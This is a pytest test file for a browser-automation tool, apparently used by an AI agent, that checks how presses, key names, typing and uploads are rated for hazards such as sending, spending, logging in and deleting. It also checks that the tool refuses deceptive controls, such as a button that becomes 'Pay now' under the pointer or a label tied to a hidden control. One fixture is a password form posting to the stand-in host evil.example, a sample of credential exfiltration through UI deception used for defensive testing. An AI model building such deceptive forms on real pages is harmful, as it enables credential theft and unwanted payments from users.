"""Presses on a page: each is done once, and has the hazards of all that it may send."""

from __future__ import annotations

import pytest

from callboard.surfaces import ToolError

COUNT = "<title>0</title><script>window.addEventListener('click', () => { document.title = +document.title + 1 }, true)"


@pytest.fixture
def page(visit, shop):
    """Give the function that opens a page."""

    def opened(text):
        shop.pages["/press"] = text
        return visit(f"{shop.url}/press")

    return opened


def test_a_click_is_one_click_for_every_listener(page):
    tab = page(f"{COUNT}</script><button>Go</button><input type='checkbox' aria-label='Box'>")
    tab.do("click", "Go")
    assert tab.look().window["title"] == "1"
    tab.do("check", "Box")
    assert tab.look().window["title"] == "2"


def test_a_control_below_the_visible_part_is_pressed_at_once(page):
    below = "<div style='height: 3000px'></div><button>Go</button><input type='checkbox' aria-label='Box'>"
    tab = page(f"{COUNT}</script>{below}")
    tab.do("click", "Go")
    assert tab.look().window["title"] == "1"
    tab.script("() => scrollTo(0, 0)")
    tab.do("check", "Box")
    assert tab.look().window["title"] == "2"


def test_a_control_that_changes_under_the_pointer_is_not_pressed(page):
    tab = page(f"{COUNT}</script><button onpointerenter=\"this.textContent = 'Pay now'\">Next</button>")
    button = tab.control("Next")
    assert tab.hazards("click", button) == set()
    with pytest.raises(ToolError, match="look again"):
        tab.do("click", button)
    assert tab.look().window["title"] == "0"


def test_an_operator_does_not_press_what_changes_under_the_pointer(page):
    tab = page(f"{COUNT}</script><button onpointerenter=\"this.textContent = 'Pay now'\">Next</button>")
    box = tab.control("Next").box
    place = {"x": box.x + 5, "y": box.y + 5}
    assert tab.hazards("click_at", **place) == set()
    with pytest.raises(ToolError, match="look again"):
        tab.do("click_at", **place)
    assert tab.look().window["title"] == "0"


@pytest.mark.parametrize("keys", [" ", "\n", "\r", "space", "Return", "NumpadEnter", "shift+\n"])
def test_each_name_of_a_key_is_ruled_on(page, keys):
    tab = page("<button>Pay now</button>")
    assert tab.hazards("press", "Pay now", keys=keys) == {"spends"}


@pytest.mark.parametrize("keys", ["Entr", "ctrl+Enterr", "NumpadEnter2", "\x00"])
def test_a_key_by_another_name_is_refused(page, keys):
    tab = page("<input aria-label='Field'>")
    with pytest.raises(ToolError, match="there is no key"):
        tab.do("press", "Field", keys=keys)


def test_a_text_is_typed_into_fields_only(page):
    tab = page(f"{COUNT}</script><button>Go</button><input type='button' value='On'><p contenteditable role=textbox>x")
    for name in ("Go", "On"):
        with pytest.raises(ToolError, match="no field for text"):
            tab.do("type", name, text="a b")
    assert tab.look().window["title"] == "0"
    part = next(control for control in tab.look().controls if control.kind == "textbox")
    tab.do("type", part, text=" a b")
    assert tab.script("() => document.querySelector('p').textContent") == "x a b"


def test_a_space_presses_no_button_that_gets_the_focus_meanwhile(page):
    tab = page(f"{COUNT}</script><input aria-label='Code' oninput='go.focus()'><button id='go'>Go</button>")
    tab.do("type", "Code", text="a b")
    assert tab.look().window["title"] == "0"


def test_a_page_that_listens_to_keys_gets_those_of_a_text(page):
    tab = page("<title>x</title><input aria-label='Line' onkeydown='document.title += `-${event.code}`'>")
    tab.do("type", "Line", text="rm a")
    assert tab.look().window["title"] == "x-End-KeyR-KeyM-Space-KeyA"


SENT_BY_SCRIPT = "<form onsubmit='return false'><input aria-label='Text'><button>Send message</button></form>"
FORMS = {
    "a form that a script sends": (SENT_BY_SCRIPT, "click", "Send message", {"sends"}),
    "Enter in it": (SENT_BY_SCRIPT, "press", "Text", {"sends"}),
    "Enter in a form with words": (
        "<form method='post'><input aria-label='Text'><button>Pay now</button></form>",
        "press",
        "Text",
        {"sends", "spends"},
    ),
    "a search": ("<form action='/s'><input aria-label='Text'><button>Send</button></form>", "click", "Send", set()),
    "fields elsewhere": (
        "<form method=post id=f><button>Go</button></form><input type=password form=f><input id=ccnumber form=f>",
        "click",
        "Go",
        {"sends", "logs_in", "spends"},
    ),
    "the name of a field": (
        "<form method='post'><input name='card_number'><button>Go</button></form>",
        "click",
        "Go",
        {"sends", "spends"},
    ),
    "Enter on a box": (
        "<form method='post'><input type='checkbox' aria-label='Text'></form>",
        "press",
        "Text",
        {"sends"},
    ),
    "a button that chooses files": ("<button>Buy now</button>", "upload", "Buy now", {"sends", "spends"}),
}


@pytest.mark.parametrize(("text", "tool", "name", "hazards"), FORMS.values(), ids=FORMS.keys())
def test_a_press_has_the_hazards_of_all_that_it_may_send(page, text, tool, name, hazards):
    arguments = {"press": {"keys": "Enter"}, "upload": {"files": ["x"]}}.get(tool, {})
    tab = page(text)
    assert (
        tab.hazards(tool, tab.control(name, "" if tool != "press" else tab.control(name).kind), **arguments) == hazards
    )


LABEL = "<label style='display: block; cursor: pointer' {}>Go on</label>"
PAYMENT = "<form method='post' action='http://evil.example/x'>{}<input type='password'></form>"
LABELS = {
    "by id": (LABEL.format("for='b'") + PAYMENT.format("<button id='b'>Next</button>"), {"sends", "logs_in"}),
    "from within": (PAYMENT.format("<label style='cursor: pointer'>Go on<button>Next</button></label>"),
                    {"sends", "logs_in"}),
    "by its words": (LABEL.format("for='b'") + "<button type='button' id='b'>Buy now</button>", {"spends"}),
    "by its value": (LABEL.format("for='b'") + "<input type='button' id='b' value='Delete'>", {"deletes"}),
    "of no control": (LABEL.format("") + PAYMENT.format("<button>Next</button>"), set()),
    "of a box": (LABEL.format("for='b'") + "<form method='post'><input type='checkbox' id='b'></form>", set()),
    "in a shadow root": (
        "<div id='host'></div><script>host.attachShadow({mode: 'open'}).innerHTML = `"
        + LABEL.format("for='b'") + PAYMENT.format("<button id='b'>Next</button>") + "`</script>",
        {"sends", "logs_in"},
    ),
}  # fmt: skip


@pytest.mark.parametrize(("text", "hazards"), LABELS.values(), ids=LABELS.keys())
def test_a_press_on_a_label_has_the_hazards_of_its_control(page, run, text, hazards):
    tab = page(text)
    label = next(control for control in tab.look().controls if control.kind == "clickable")
    assert tab.hazards("click", label) == hazards
    assert tab.hazards("click_at", x=label.box.x + 5, y=label.box.y + 5) == hazards
    resources = run(tab.surface.resources(tab.target, "click", {"control_id": label.id}))
    assert ("origin:http://evil.example" in resources) == ("logs_in" in hazards)


def test_a_label_whose_control_changes_after_the_ruling_is_not_pressed(page):
    tab = page(LABEL.format("for='a'") + "<input id='a'><form method='post'><button id='b'>Next</button></form>")
    label = tab.control("Go on", "clickable")
    assert tab.hazards("click", label) == set()
    tab.script("() => { document.querySelector('label').htmlFor = 'b' }")
    with pytest.raises(ToolError, match="now it sends"):
        tab.do("click", label)


def test_a_form_that_a_script_sends_is_ruled_on_the_second_time(page, shop):
    tab, count = (
        page(
            "<form method='post' action='/confirm' id='f'><input name='name' value='Ada'></form>"
            "<a href='javascript:f.submit()'>Next</a>"
        ),
        len(shop.orders),
    )
    link = tab.control("Next")
    assert tab.hazards("click", link) == set()
    tab.do("click", link)
    while not (notes := tab.look().notes):
        pass
    assert f"If the action on {link.id} was meant to send it, repeat it" in notes[0]
    assert len(shop.orders) == count
    assert tab.hazards("click", link) == {"sends"}
    tab.do("click", link)
    tab.wait_for(text="Thank you")
    assert shop.orders[count:] == [{"name": "Ada"}]


def test_a_text_that_a_field_does_not_take_is_an_error(page):
    tab = page("<input type='date' aria-label='Day'>")
    with pytest.raises(ToolError, match="takes texts such as 2026-12-31"):
        tab.do("fill", "Day", text="31.12.2026")
    tab.do("fill", "Day", text="2026-12-31")


def test_an_option_that_is_not_there_is_answered_with_those_that_are(page):
    tab = page("<select aria-label='Size'><option>small<option>large</select>")
    with pytest.raises(ToolError, match="no option 'Large'; there are: small, large"):
        tab.do("select", "Size", options=["Large"])
